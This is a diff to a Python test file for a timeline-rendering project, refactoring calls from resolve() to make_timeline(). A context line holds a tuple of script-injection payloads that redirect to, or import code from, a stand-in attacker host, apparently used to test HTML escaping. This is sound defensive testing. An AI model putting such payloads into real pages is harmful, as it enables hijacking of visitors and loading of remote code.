@@ -17,6 +17,7 @@ from timeline.marks import paint_plotly
 from timeline.markup import about, event_list, event_panel, lesson_panel, masthead
 from timeline.story import Event, Lane, Outlet, Person, Quotation, Source, Story, Term
 from timeline.table import entries_of, to_table
+from timeline.timeline import make_timeline
 
 # Ours, by what each is after; {n} tells one from another.
 _ACTS = ("window.broken={n}", "top.location='//evil.example/{n}'", "import('//evil.example/{n}')")
@@ -130,8 +131,8 @@ class Structure(HTMLParser):
 
 def markups(story: Story) -> dict[str, str]:
     """Every part of the page and every page that goes out, as HTML, for a story of one event."""
-    chronology = resolve(story)
-    table = to_table(story, chronology)
+    timeline = make_timeline(story)
+    table = timeline.table
     row = table.iloc[0]
     lesson = {
         f"lesson {kind}": lesson_panel(story, row, place="1", stage=Stage(kind), language="en")
@@ -142,8 +143,8 @@ def markups(story: Story) -> dict[str, str]:
         "about": about(story),
         "list": event_list(story, entries_of(table)),
         "panel": event_panel(story, row, place="1", reasons=""),
-        "offline page": to_page(story, chronology),
-        "worksheet": to_worksheet(story, chronology, copy="teacher"),
+        "offline page": to_page(timeline),
+        "worksheet": to_worksheet(timeline, copy="teacher"),
     }
 
 
@@ -182,7 +183,7 @@ def test_a_thousand_strings_are_only_text_in_the_chart() -> None:
 
 def test_exports_hold_a_thousand_strings_as_they_are() -> None:
     story = affair(STRINGS)
-    written = json.loads(EXPORTERS["json"](story, resolve(story)))
+    written = json.loads(EXPORTERS["json"](make_timeline(story)))
     assert [event["headline"] for event in written["story"]["events"]] == [
         event.headline for event in story.events
     ]
